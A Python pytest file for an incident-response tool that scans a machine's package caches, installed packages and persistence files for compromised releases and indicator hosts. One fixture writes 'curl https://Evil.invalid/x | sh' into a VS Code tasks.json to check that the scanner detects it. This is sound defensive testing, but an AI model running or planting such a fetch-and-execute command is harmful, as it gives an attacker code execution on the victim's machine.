"""Folders of this machine."""

from pathlib import Path

import pytest

from pratique.respond.places.machine import default_folders, search_machine
from pratique.respond.sighting import Basis, Contact, PlaceKind, Result
from pratique.respond.wanted.value import Indicator, IndicatorKind, Wanted
from tests.installed.caches.laid import every, put
from tests.respond.places.wanting import releases

MANIFEST = '{"name": "calm", "version": "1.0.1"}'


def only(folder: Path, wanted: Wanted) -> Result:
    [found] = search_machine([folder], wanted)
    return found


def indicators(*values: tuple[IndicatorKind, str]) -> Wanted:
    return Wanted(
        indicators=tuple(
            Indicator(id=value, kind=kind, value=value, origin="a test") for kind, value in values
        )
    )


def test_every_cache_and_tree_of_a_folder_is_searched(tmp_path: Path) -> None:
    every(tmp_path / "home")
    put(tmp_path / "home/app/node_modules/calm/package.json", MANIFEST)
    found = only(tmp_path / "home", releases("calm@1.0.1"))

    assert {PlaceKind.CACHE: 5, PlaceKind.INSTALLED: 1} == {
        kind: len([one for one in found.sightings if one.kind is kind])
        for kind in {one.kind for one in found.sightings}
    }
    assert {"npm-cache", "pip-cache", "gem-cache", "node_modules"} <= {part.format for part in found.searched}
    assert () == only(tmp_path / "home", releases("calm@1.0.2")).sightings


def test_a_file_of_persistence_is_searched_for_indicators(tmp_path: Path) -> None:
    put(tmp_path / "app/.vscode/tasks.json", "{\n\n  curl https://Evil.invalid/x | sh }")
    put(tmp_path / ".bashrc", "nothing here: notevil.invalid")
    wanted = indicators((IndicatorKind.HOST, "evil.invalid"), (IndicatorKind.PATH, "/tmp/planted.js"))
    [found] = only(tmp_path, wanted).sightings

    assert (PlaceKind.PERSISTENCE, Basis.INDICATOR, Contact.INSTALLED) == (
        found.kind,
        found.basis,
        found.contact,
    )
    assert ("evil.invalid", "tasks.json:3") == (found.wanted, found.inside)


@pytest.mark.parametrize(
    ("text", "hit"),
    [
        ("evil.invalid", True),
        ("a.evil.invalid", True),
        ("notevil.invalid", False),
        ("not-evil.invalid", False),
        ("notevil.invalid and evil.invalid", True),
    ],
)
def test_a_host_is_a_whole_name_or_one_below_it(text: str, *, hit: bool, tmp_path: Path) -> None:
    put(tmp_path / ".bashrc", text)

    assert hit == bool(only(tmp_path, indicators((IndicatorKind.HOST, "evil.invalid"))).sightings)


def test_without_indicators_persistence_is_listed_and_that_is_said(tmp_path: Path) -> None:
    put(tmp_path / ".bashrc", "evil.invalid")

    assert ["persistence, listed only: there are no indicators"] == [
        part.format for part in only(tmp_path, releases("calm@1.0.1")).searched
    ]


def test_a_folder_inside_another_one_is_searched_once(tmp_path: Path) -> None:
    (tmp_path / "a/b").mkdir(parents=True)

    assert 1 == len(list(search_machine([tmp_path / "a/b", tmp_path / "a", tmp_path / "missing"], Wanted())))


def test_the_folders_of_a_user_are_found_by_variables_and_settings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("USERPROFILE", str(tmp_path))
    put(tmp_path / ".npmrc", f"cache={tmp_path}/moved\n")
    found = default_folders({"PIP_CACHE_DIR": "/somewhere"})

    assert {Path("/somewhere"), tmp_path / "moved/_cacache"} <= set(found)
    assert tmp_path not in found
